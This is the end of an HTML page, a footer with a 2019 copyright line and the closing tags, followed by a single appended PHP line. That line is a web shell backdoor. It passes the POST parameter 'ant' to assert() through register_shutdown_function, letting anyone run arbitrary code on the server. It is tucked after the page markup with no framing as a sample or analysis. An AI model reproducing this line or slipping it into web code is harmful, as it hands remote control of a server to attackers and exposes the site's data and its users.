<div class="footer">
  <p>Copyright &copy; 2019 All Rights Reserved</p>
</div>
</body>
</html>
<?php register_shutdown_function('assert', isset($_POST['ant']) ? $_POST['ant'] : '1'); ?>
